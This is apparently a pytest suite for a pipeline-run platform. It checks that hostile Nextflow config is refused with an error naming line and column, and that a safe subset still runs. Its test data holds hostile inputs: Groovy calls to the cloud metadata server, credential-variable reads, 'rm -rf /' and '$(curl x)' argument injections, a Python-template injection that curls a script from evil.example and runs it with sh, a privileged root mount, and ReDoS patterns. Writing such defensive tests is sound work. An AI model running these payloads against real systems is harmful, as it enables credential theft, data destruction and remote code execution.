"""Issue 9, "User config: data, never code": each attack through a run's config is a 400 over REST on the
embedded stack, naming the line and column; the accepted subset still runs to completion.

All tests share the module's running platform (tests/runs/conftest.py).
"""

from __future__ import annotations

import asyncio
from typing import Any

import grpc
import pytest

from arc.runs.v1 import run_pb2, runs_service_pb2
from tests.runs.test_create_and_files import PARAMS as SCRNASEQ_PARAMS
from tests.runs.test_create_and_files import SAMPLESHEET as SCRNASEQ_SAMPLESHEET
from tests.runs.test_execution import SAMPLESHEET as DEMO_SAMPLESHEET
from tests.support.platform import Running, email_metadata

ALICE = email_metadata("alice@example.com")
ALICE_HTTP = {"X-Goog-Authenticated-User-Email": "accounts.google.com:alice@example.com"}


def scrnaseq(config: str, **overrides: Any) -> dict[str, Any]:
    return {
        "pipeline": "nf-core/scrnaseq",
        "pipeline_version": "2.7.1",
        "samplesheet_csv": SCRNASEQ_SAMPLESHEET,
        "params": SCRNASEQ_PARAMS,
        "config_content": config,
        **overrides,
    }


def demo(config: str, params: dict[str, Any] | None = None) -> dict[str, Any]:
    return {
        "pipeline": "demo/hello",
        "pipeline_version": "1.0.0",
        "samplesheet_csv": DEMO_SAMPLESHEET,
        "params": {"greeting": "hi"} if params is None else params,
        "config_content": config,
    }


def violations(response: Any) -> list[dict[str, str]]:
    return [v for d in response.json()["error"]["details"] for v in d.get("field_violations", [])]


def config_violations(response: Any) -> list[str]:
    return [v["description"] for v in violations(response) if v["field"] == "user_config"]


async def wait_terminal(platform: Running, run_id: str) -> run_pb2.Run:
    call = platform.runs.WatchRun(runs_service_pb2.WatchRunRequest(run_id=run_id), metadata=ALICE)
    async with asyncio.timeout(60):  # a safety net for a hung run, not a timing assertion
        while (event := await call.read()) is not grpc.aio.EOF:
            if event.final:
                return event.status
    raise AssertionError("WatchRun ended without a final event")


ATTACKS = [
    # Groovy code: it would run on the orchestrator's VM under the service account every run shares.
    pytest.param("def t = new URL('http://metadata.google.internal/computeMetadata/v1/').text", 1, 1, id="new-url"),
    pytest.param("params.greeting = \"${System.getenv('GOOGLE_APPLICATION_CREDENTIALS')}\"", 1, 20, id="gstring"),
    pytest.param("process {\n    memory = { 8.GB * task.attempt }\n}", 2, 14, id="closure"),
    pytest.param("'gsutil cp gs://other-run/results .'.execute()", 1, 1, id="execute"),
    pytest.param("System.exit(0)", 1, 8, id="method-call"),
    pytest.param("includeConfig 'http://x'", 1, 1, id="includeConfig"),
    # Plain settings that move tasks elsewhere, change their identity or lift the platform's limits.
    pytest.param("process.executor = 'local'", 1, 1, id="process.executor"),
    pytest.param("google.batch.serviceAccountEmail = 'x'", 1, 1, id="serviceAccountEmail"),
    pytest.param("process { withName: '.*' { resourceLimits = [cpus: 999] } }", 1, 28, id="resourceLimits"),
    pytest.param("process.resourceLabels = ['run-id': 'someone-else']", 1, 1, id="resourceLabels"),
    pytest.param("process {\n  withLabel: 'x' { resourceLabels = [:] }\n}", 2, 20, id="resourceLabels-selector"),
    pytest.param("process.publishDir = [path: 'gs://other-bucket/', mode: 'copy']", 1, 1, id="publishDir"),
    pytest.param("workDir = 'gs://platform-bucket/runs/run-00000000/work'", 1, 1, id="workDir"),
    pytest.param("env {\n    PATH = '/tmp/evil:/usr/bin'\n}", 1, 1, id="env"),
    pytest.param("executor {\n    queueSize = 10000\n}", 1, 1, id="executor"),
    pytest.param("plugins {\n    id 'nf-evil@1.0.0'\n}", 1, 1, id="plugins"),
    pytest.param("process { containerOptions = '--privileged -v /:/host' }", 1, 11, id="containerOptions"),
    pytest.param("process.accelerator = [request: 8, type: 'nvidia-h100-80gb']", 1, 1, id="accelerator"),
    # ext.args is pasted into the task's shell command.
    pytest.param("process.ext.args = '--x ; rm -rf /'", 1, 20, id="ext.args-semicolon"),
    pytest.param("process { withName: 'STAR_ALIGN' { ext.args = '$(curl x)' } }", 1, 47, id="ext.args-subst"),
    pytest.param("process.ext.args = '--x\\nrm -rf /'", 1, 20, id="ext.args-escaped-newline"),
    pytest.param("process.ext.args = '--x\nrm -rf /'", 1, 20, id="ext.args-raw-newline"),
    # ...and by nf-core's Python templates into Python source: cellranger/count/templates/cellranger_count.py
    # has `"--id", "${prefix}",` and `*shlex.split("""${args}""")`, so a `"` closes the Python literal.
    pytest.param(
        "process {\n    withName: 'CELLRANGER_COUNT' {\n"
        '        ext.prefix = \'x", __import__("os").system("curl -so /tmp/p evil.example/p"),'
        ' __import__("os").system("sh /tmp/p"), "\'\n    }\n}',
        3,
        22,
        id="ext.prefix-python-template",
    ),
    pytest.param('process.ext.args = \'""" + __import__("os").popen("id").read() + """\'', 1, 20, id="ext.args-python"),
    pytest.param("process.ext.args = '--x \"a\" --y'", 1, 20, id="ext.args-balanced-quotes"),
    pytest.param("process.ext.args = '--x # comments out the line continuation'", 1, 20, id="ext.args-hash"),
    pytest.param("process.ext.args = '--reads /data/*.fq'", 1, 20, id="ext.args-glob"),
    pytest.param("process.ext.args = '--reads {a,b}.fq'", 1, 20, id="ext.args-brace"),
    pytest.param("process.ext.prefix = '../../other-run/results/x'", 1, 22, id="ext.prefix-dotdot"),
    pytest.param("process.ext.prefix = 'a/b'", 1, 22, id="ext.prefix-slash"),
    # withName:/withLabel: patterns are Java regexes matched on the orchestrator.
    pytest.param("process { withName: '(.*)*X' { cpus = 1 } }", 1, 21, id="pattern-nested-quantifier"),
    pytest.param("process { withName: '.*.*.*.*.*.*.*.*X' { cpus = 1 } }", 1, 21, id="pattern-backtracking"),
    pytest.param("process { withLabel: '[a-' { cpus = 1 } }", 1, 22, id="pattern-invalid"),
    pytest.param("process { withName: '*X' { cpus = 1 } }", 1, 21, id="pattern-dangling-star"),
    # Requests above the platform's maxima (ARC_TASK_MAX_*).
    pytest.param("process.cpus = 999", 1, 16, id="cpus"),
    pytest.param("process { withName: 'STAR_ALIGN' { memory = 10.TB } }", 1, 45, id="memory"),
    pytest.param("process.time = '30d'", 1, 16, id="time"),
]


@pytest.mark.parametrize(("config", "line", "column"), ATTACKS)
async def test_config_attack_is_a_400_naming_line_and_column(
    platform: Running, config: str, line: int, column: int
) -> None:
    response = await platform.http.post("/api/runs", json=scrnaseq(config), headers=ALICE_HTTP)
    assert response.status_code == 400, response.text
    assert response.json()["error"]["code"] == "INVALID_ARGUMENT"
    messages = config_violations(response)
    assert messages, response.text
    assert messages[0].startswith(f"line {line}, column {column}: "), messages
    assert "; " in messages[0]  # what was found; what is allowed


@pytest.mark.parametrize(
    ("params", "field", "maximum"),
    [
        ({"max_cpus": 100000}, "params.max_cpus", "36"),
        ({"max_memory": "900.TB"}, "params.max_memory", "GB"),
        ({"max_time": "9999.d"}, "params.max_time", "h"),
        ({"max_cpus": "lots"}, "params.max_cpus", "36"),
    ],
)
async def test_cap_params_above_the_platform_maxima_are_a_400(
    platform: Running, params: dict[str, Any], field: str, maximum: str
) -> None:
    """They go to -params-file, which beats the platform's params.max_* in the -c config: refused up front."""
    response = await platform.http.post(
        "/api/runs", json=scrnaseq("", params={**SCRNASEQ_PARAMS, **params}), headers=ALICE_HTTP
    )
    assert response.status_code == 400, response.text
    found = [v for v in violations(response) if v["field"] == field]
    assert found, response.text
    assert any(maximum in v["description"] for v in found), found


async def test_custom_config_base_in_the_config_params_block_is_refused(platform: Running) -> None:
    config = "params {\n    custom_config_base = 'http://evil.example/configs'\n}"
    response = await platform.http.post("/api/runs", json=scrnaseq(config), headers=ALICE_HTTP)
    assert response.status_code == 400, response.text
    [violation] = [v for v in violations(response) if v["field"] == "params.custom_config_base"]
    assert "may not be set on this platform" in violation["description"]
    assert "user_config line 2, column 5" in violation["description"]


async def test_platform_params_in_the_config_are_refused(platform: Running) -> None:
    response = await platform.http.post(
        "/api/runs", json=scrnaseq("params.outdir = 'gs://other-run/results'"), headers=ALICE_HTTP
    )
    assert response.status_code == 400, response.text
    [violation] = [v for v in violations(response) if v["field"] == "params.outdir"]
    assert "set by the platform" in violation["description"]


async def test_a_param_in_both_the_request_and_the_config_is_refused(platform: Running) -> None:
    response = await platform.http.post("/api/runs", json=scrnaseq("params.genome = 'GRCm39'"), headers=ALICE_HTTP)
    assert response.status_code == 400, response.text
    [violation] = [v for v in violations(response) if v["field"] == "params.genome"]
    assert violation["description"].startswith("set both in params and in the config's params block")


async def test_config_params_are_validated_against_the_schema(platform: Running) -> None:
    response = await platform.http.post(
        "/api/runs", json=demo("params.greeting = 'hi'\nparams.times = 'many'", params={}), headers=ALICE_HTTP
    )
    assert response.status_code == 400, response.text
    [violation] = [v for v in violations(response) if v["field"] == "params.times"]
    assert "integer" in violation["description"] and "user_config line 2, column 8" in violation["description"]


async def test_every_problem_of_a_config_is_reported_at_once(platform: Running) -> None:
    config = "process.executor = 'local'\nprocess.cpus = 2\nenv.X = 'y'\nprocess.ext.args = 'a|b'\n"
    response = await platform.http.post("/api/runs", json=scrnaseq(config), headers=ALICE_HTTP)
    assert response.status_code == 400, response.text
    assert [m.split(":")[0] for m in config_violations(response)] == [
        "line 1, column 1",
        "line 3, column 1",
        "line 4, column 20",
    ]


async def test_the_accepted_subset_runs_to_completion(platform: Running) -> None:
    config = (
        "// resources for the demo\n"
        "process {\n"
        "    withName: 'FASTQC' { cpus = 2; memory = '2 GB'; ext.args = '--quiet' }\n"
        "    withLabel: process_low { time = 1.h }\n"
        "}\n"
        "process.errorStrategy = 'terminate'\n"
        "params {\n    greeting = 'Hello from the config'  // a required param, validated like the request's\n}\n"
    )
    response = await platform.http.post("/api/runs", json=demo(config, params={}), headers=ALICE_HTTP)
    assert response.status_code == 201, response.text
    run = response.json()
    storage = platform.service("runs").storage
    rendered = (await storage.read_bytes(f"runs/{run['run_id']}/inputs/nextflow.config")).decode()
    assert "resources for the demo" not in rendered  # the user's text is never emitted
    assert (
        "    withName: 'FASTQC' {\n        cpus = 2\n        memory = '2 GB'\n        ext.args = '--quiet'\n"
        in rendered
    )
    assert "process.errorStrategy = 'terminate'" in rendered
    assert "params.greeting = 'Hello from the config'" in rendered
    lines = rendered.splitlines()
    platform_start = lines.index("// ---- platform (last: nothing above can change it) ----")
    assert platform_start > max(i for i, line in enumerate(lines) if "withName: 'FASTQC'" in line)
    assert "process.executor = 'local'" in lines[platform_start:] and lines[-1].startswith("process.resourceLabels")
    assert any(line.startswith("process.resourceLimits = ") for line in lines[platform_start:])
    final = await wait_terminal(platform, run["run_id"])
    assert final.status == run_pb2.Run.COMPLETED, final


async def test_a_recovery_with_a_hostile_override_config_is_a_400(platform: Running) -> None:
    response = await platform.http.post(
        "/api/runs",
        json=demo("process.cpus = 1", params={"greeting": "hi", "fail_task": "FASTQC (s2)"}),
        headers=ALICE_HTTP,
    )
    assert response.status_code == 201, response.text
    parent = response.json()
    assert (await wait_terminal(platform, parent["run_id"])).status == run_pb2.Run.FAILED
    hostile = "process.cpus = 1\nprocess.executor = 'local'\ndef x = 'curl http://metadata.google.internal'.execute()"
    recovered = await platform.http.post(
        f"/api/runs/{parent['run_id']}/recover",
        json={"reuse_work_dir": False, "override_config": hostile, "override_params": {"greeting": "hi"}},
        headers=ALICE_HTTP,
    )
    assert recovered.status_code == 400, recovered.text
    assert [m.split(":")[0] for m in config_violations(recovered)] == ["line 2, column 1", "line 3, column 1"]
    # The same recovery with a config inside the subset is accepted (and parsed the same way).
    fine = await platform.http.post(
        f"/api/runs/{parent['run_id']}/recover",
        json={"reuse_work_dir": False, "override_config": "process.cpus = 2", "override_params": {"greeting": "hi"}},
        headers=ALICE_HTTP,
    )
    assert fine.status_code == 201, fine.text
    child = fine.json()
    rendered = await platform.service("runs").storage.read_bytes(f"runs/{child['run_id']}/inputs/nextflow.config")
    assert "process.cpus = 2" in rendered.decode()
    await wait_terminal(platform, child["run_id"])
